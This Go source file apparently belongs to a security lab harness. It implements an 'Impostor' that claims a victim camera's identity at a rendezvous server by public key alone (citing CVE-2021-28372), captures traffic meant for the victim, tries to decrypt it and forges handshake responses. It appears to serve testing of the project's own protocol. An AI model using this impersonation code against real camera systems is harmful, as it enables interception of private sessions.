package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net/netip"
	"time"

	"github.com/flynn/noise"
	"github.com/punchlab/punchlab/impl/core"
	"github.com/punchlab/punchlab/impl/identity"
	"github.com/punchlab/punchlab/impl/session"
	"github.com/punchlab/punchlab/impl/uplink"
	"github.com/punchlab/punchlab/impl/wire"
	"github.com/punchlab/punchlab/lab"
)

// Impostor is a camera with a key of its own that wants to be taken for another one. It registers at a rendezvous, takes whatever
// comes to it by way of that or directly, keeps it, tries to read it, and answers as the other camera might.
//
// It registers with its own key, and before tries to with the victim's public key and none of its private one (CVE-2021-28372:
// registration by UID alone). Visitors come to it where the rendezvous sends them (RogueRendezvous, HandOver), and by Port where
// they look for a camera in their own network at an address by which they have met it (impl/PROTOCOL.md §11, "Nearby").
type Impostor struct {
	Server netip.AddrPort
	Key    identity.PublicKey // the rendezvous'
	Own    identity.Key
	Victim identity.PublicKey // whom it poses as
	Port   uint16             // of its socket; 0: any
	// Keep is how many bytes of what it is handed it keeps at most; 0: 1 MiB.
	Keep       int
	Secrets    []Secret
	Seed       uint64
	Registered func(at netip.AddrPort) // called once it is, with where the rendezvous sees it; nil: nobody asks

	captured [][]byte
}

// Name returns "impostor".
func (a *Impostor) Name() string { return "impostor" }

// Captured is what the last Run was handed, datagram by datagram.
func (a *Impostor) Captured() [][]byte { return a.captured }

// Run poses.
func (a *Impostor) Run(ctx context.Context, m *lab.Machine, b Budget) (Report, error) {
	r, err := enter(a, m, b)
	if err != nil {
		return r, err
	}
	p, err := newPoser(a, &r)
	if err != nil {
		return r, fmt.Errorf("impostor: %w", err)
	}
	s := served{core: p, at: netip.AddrPortFrom(netip.Addr{}, a.Port), start: p.start}
	err = serve(ctx, m, b, s, &r)
	a.captured = p.captured
	return r, err
}

// poser is an Impostor without I/O.
type poser struct {
	*Impostor
	report    *Report
	find      searcher
	random    io.Reader
	box       core.Outbox
	link      *uplink.Link
	responder *session.Responder
	hijack    []byte // an initiation that claims the victim's key
	index     uint32 // of the session that it would make
	captured  [][]byte
	left      int
}

func newPoser(a *Impostor, r *Report) (p *poser, err error) {
	p = &poser{Impostor: a, report: r, random: seeded(a.Seed), left: a.Keep}
	if p.left <= 0 {
		p.left = 1 << 20
	}
	if p.find, err = newSearcher(a.Secrets); err != nil {
		return nil, err
	}
	if p.responder, err = session.NewResponder(session.Config{Static: a.Own, Rand: p.random, Prologue: []byte(core.PrologueCamera)}); err != nil {
		return nil, err
	}
	if p.hijack, err = Claim(a.Victim, a.Key, p.random); err != nil {
		return nil, err
	}
	p.index = binary.LittleEndian.Uint32(p.hijack[4:])
	p.link, err = uplink.New(uplink.Config{
		Session: session.Config{Static: a.Own, Rand: p.random, Taken: func(i uint32) bool { return i == p.index }}, Rendezvous: a.Key,
		Addrs: []netip.AddrPort{a.Server}, Keepalive: 15 * time.Second, Hello: &wire.Register{Version: wire.ProtocolVersion, Keepalive: 15},
		Up: func(now time.Time, _ wire.Message) {
			if a.Registered != nil {
				a.Registered(p.link.Reflexive())
			}
		},
		Down: func(time.Time) {},
	}, &p.box)
	return p, err
}

func (p *poser) start(now time.Time) error {
	p.box.Begin()
	p.box.Send(netip.AddrPort{}, p.Server, core.Handshake, p.hijack)
	return p.link.Start(now)
}

func (p *poser) HandlePacket(now time.Time, from, _ netip.AddrPort, b []byte) {
	p.box.Begin()
	index, ok := session.ReceiverIndex(b)
	switch {
	case ok && p.link.Owns(index):
		m, err := p.link.Handle(now, from, b)
		if in, is := m.(*wire.Introduce); err == nil && is {
			p.visited(now, in)
		}
		return
	case ok && index == p.index && wire.Classify(b) == wire.Response:
		p.report.Gained = append(p.report.Gained, "the rendezvous answered a registration by a public key alone")
	}
	p.keep(wire.Classify(b).String(), b)
	switch wire.Classify(b) {
	case wire.Initiation:
		p.pry(now, from, b)
		p.forge(from, b)
	case wire.PunchPacket:
		p.box.Send(netip.AddrPort{}, from, core.Punch, p.box.Copy(b)) // sent back, in case it is taken for the camera's
		mine := p.box.Copy(b)
		mine[2] = 1
		p.box.Send(netip.AddrPort{}, from, core.Punch, mine)
	}
}

// visited takes a viewer that the rendezvous sends.
func (p *poser) visited(now time.Time, in *wire.Introduce) {
	p.report.Counts["visitors"]++
	p.keep("visitor's initiation", in.Noise1)
	p.link.Send(core.Signal, &wire.IntroduceAck{ID: in.ID})
	p.pry(now, in.Endpoint.AddrPort, in.Noise1)
	p.forge(in.Endpoint.AddrPort, in.Noise1)
}

// keep records what came.
func (p *poser) keep(what string, b []byte) {
	p.report.Counts["captured: "+what]++
	p.find.look(b, "what the impostor was handed ("+what+")", p.report)
	if len(b) <= p.left {
		p.left -= len(b)
		p.captured = append(p.captured, append([]byte(nil), b...))
	}
}

// pry tries whether what was meant for the victim opens with the impostor's key.
func (p *poser) pry(now time.Time, from netip.AddrPort, b []byte) {
	q, _, err := p.responder.Open(now, from, false, b)
	if err != nil {
		p.report.Counts["not readable: "+core.Reason(err)]++
		return
	}
	if m, err := wire.Unmarshal(q.Payload()); err == nil {
		p.report.Gained = append(p.report.Gained, fmt.Sprintf("a viewer's %T opened with the impostor's key", m))
	}
	p.find.look(q.Payload(), "a Hello that the impostor opened", p.report)
}

// forge answers an initiation that it cannot read: as if it could, with a public key of low order, and with the initiation itself.
func (p *poser) forge(to netip.AddrPort, b []byte) {
	if len(b) < session.MinInitiation {
		return
	}
	for _, how := range []func(response []byte){
		func(r []byte) { _, _ = io.ReadFull(p.random, r[8:]) },
		func(r []byte) { _, _ = io.ReadFull(p.random, r[40:]); clear(r[8:40]) },
		func(r []byte) { copy(r[8:], b[8:]) },
	} {
		r := make([]byte, session.ResponseOverhead+24)
		copy(r, []byte{session.TypeResponse, session.Version, 0, 0})
		copy(r[4:8], b[4:8]) // the viewer's index: the one thing in its initiation that anybody can read
		how(r)
		p.box.Send(netip.AddrPort{}, to, core.Handshake, r)
		p.report.Counts["forged responses"]++
	}
}

func (p *poser) HandleTimeout(now time.Time) {
	p.box.Begin()
	p.link.HandleTimeout(now)
}

func (p *poser) Deadline() time.Time { return p.link.Deadline() }
func (p *poser) Ready() core.Output  { return p.box.Ready() }

// Claim is a registration under a camera's public key by somebody who has not its private one (CVE-2021-28372), as a datagram for the
// rendezvous with the key responder: another one each time.
func Claim(victim, responder identity.PublicKey, random io.Reader) ([]byte, error) {
	var private [32]byte
	if _, err := io.ReadFull(random, private[:]); err != nil {
		return nil, fmt.Errorf("claim a key: %w", err)
	}
	return claim(private, victim, responder, random)
}

// claim is an initiation that registers under a public key with a private key that need not be its own. The public key can be
// named by anybody, since that is sealed with the responder's; what follows needs both (Noise's token ss).
func claim(private [32]byte, whose, responder identity.PublicKey, random io.Reader) ([]byte, error) {
	payload, err := wire.Marshal(&wire.Register{Version: wire.ProtocolVersion, Keepalive: 15})
	if err != nil {
		return nil, fmt.Errorf("claim a key: %w", err)
	}
	header := []byte{session.TypeInitiation, session.Version, 0, 0, 0, 0, 0, 0}
	if _, err := io.ReadFull(random, header[4:]); err != nil {
		return nil, fmt.Errorf("claim a key: %w", err)
	}
	hs, err := noise.NewHandshakeState(noise.Config{
		CipherSuite: noise.NewCipherSuite(noise.DH25519, noise.CipherChaChaPoly, noise.HashBLAKE2s), Random: random, Initiator: true,
		Pattern: noise.HandshakeIK, Prologue: append([]byte(core.PrologueRendezvous), header...), PeerStatic: responder[:],
		StaticKeypair: noise.DHKey{Private: private[:], Public: whose[:]},
	})
	if err != nil {
		return nil, fmt.Errorf("claim a key: %w", err)
	}
	plain := make([]byte, 10+session.MinInitiation-session.InitiationOverhead)
	binary.LittleEndian.PutUint64(plain, 1<<62) // newer than all that the victim has sent
	binary.LittleEndian.PutUint16(plain[8:], uint16(len(payload)))
	copy(plain[10:], payload)
	b, _, _, err := hs.WriteMessage(header, plain)
	if err != nil {
		return nil, fmt.Errorf("claim a key: %w", err)
	}
	b = append(b, make([]byte, 2*16)...) // mac1, mac2
	Sign(responder, b)
	return b, nil
}
